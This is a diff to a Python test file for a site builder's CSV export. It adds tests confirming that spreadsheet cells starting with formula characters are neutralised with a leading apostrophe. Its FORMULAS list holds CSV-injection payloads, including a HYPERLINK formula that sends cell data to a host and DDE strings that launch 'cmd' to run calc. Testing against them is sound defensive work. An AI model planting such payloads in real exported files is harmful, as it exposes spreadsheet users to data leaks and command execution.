@@ -14,7 +14,7 @@ import pytest
 
 from site_builder.casefile.fields import case_fields
 from site_builder.casefile.loader import require_cases
-from site_builder.outputs.export import EXTRA_COLUMNS, LIST_SEPARATOR, cell_text, csv_columns
+from site_builder.outputs.export import EXTRA_COLUMNS, LIST_SEPARATOR, csv_cell, csv_columns
 from tests.support.project import ROOT
 from tests.support.showcase import UNSEEN_DRAFT_ID, UNSEEN_ID
 
@@ -74,7 +74,7 @@ def test_csv_rows_match_the_json(showcase_site: Path) -> None:
         case = published[record["id"]]
         for key, label in csv_columns():
             value = record[key] if key in derived else getattr(case, key)
-            assert row[label] == cell_text(value), (record["id"], key)
+            assert row[label] == csv_cell(key, value), (record["id"], key)
         assert row["标题"] == record["title"] and row["摘要"] == record["summary"]
         assert row["领域"] == LIST_SEPARATOR.join(record["fields"])
         assert row["标签"].split(LIST_SEPARATOR) == record["tags"] or not record["tags"]
@@ -166,3 +166,60 @@ def test_a_new_field_reaches_json_csv_and_the_column_table(monkeypatch: pytest.M
     header, *rows = list(csv.reader(io.StringIO(files["data/cases.csv"].decode("utf-8-sig"))))
     assert rows[0][header.index("联系渠道")] == "热线 12345；公众号"
     assert "| 联系渠道 | `contact` | 对外联系渠道 |" in export.columns_table()
+
+
+def _hostile_csv(**fields: Any) -> dict[str, str]:
+    from site_builder.browse.model import SiteModel
+    from site_builder.casefile.vocab import load_vocabularies
+    from site_builder.outputs import export
+    from tests.support.project import FIXTURE_CASES
+
+    vocab = load_vocabularies()
+    base = require_cases([FIXTURE_CASES], cases_root=FIXTURE_CASES).published()[0]
+    case = type(base).model_validate({**base.model_dump(), **fields}, context={"vocab": vocab})
+    case.bind(base.id, base.source_path or FIXTURE_CASES)
+    files = export.build_data_files(
+        SiteModel([case], vocab), site_name="测试站", site_url="https://x.test/", covers={}, social={}
+    )
+    header, row = list(csv.reader(io.StringIO(files["data/cases.csv"].decode("utf-8-sig"), newline="")))
+    json_case = json.loads(files["data/cases.json"])["cases"][0]
+    return {**dict(zip(header, row, strict=True)), "_json_practice": json_case["practice"]}
+
+
+FORMULAS = [
+    '=HYPERLINK("h"&"ttp://127.0.0.1:9/?leak="&A2,"详情")',
+    "+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "  =1+1 前面有空格",
+    "\u3000＝1+1 全角等号",
+    "＋1 全角加号",
+    "＠SUM(1) 全角",
+    "－1 全角减号",
+    "\u2002\u00a0=1+1 其他空格",
+    "\n=1+1 换行",
+]
+
+
+def test_csv_cells_never_start_a_formula() -> None:
+    row = _hostile_csv(organizations=FORMULAS, tags=["-标签"], practice="- 第一项\n- 第二项\n")
+    for cell in [*row["参与单位"].split(LIST_SEPARATOR)[:1], row["标签"], row["主要做法"]]:
+        head = cell.lstrip(" \u3000")
+        assert head[:1] not in set("=+-@\t\r＝＋－＠"), cell
+    assert row["参与单位"].startswith("'=HYPERLINK(")
+    assert row["标签"] == "'-标签"
+
+
+@pytest.mark.parametrize("formula", FORMULAS)
+def test_each_formula_shape_is_neutralised_as_a_whole_cell(formula: str) -> None:
+    from site_builder.outputs.export import neutralised
+
+    assert neutralised(formula) == "'" + formula
+    assert neutralised("党员骑手 = 120") == "党员骑手 = 120"
+
+
+def test_csv_has_plain_text_and_the_json_keeps_the_markdown() -> None:
+    practice = "- **建立**联席会\n- 设立[驿站]\n\n1. 第一\n2. 第二\n\n第二段 &amp; `代码`\n"
+    row = _hostile_csv(practice=practice)
+    assert row["主要做法"] == "• 建立联席会\n• 设立[驿站]\n\n1. 第一\n2. 第二\n\n第二段 & 代码"
+    assert row["_json_practice"] == practice
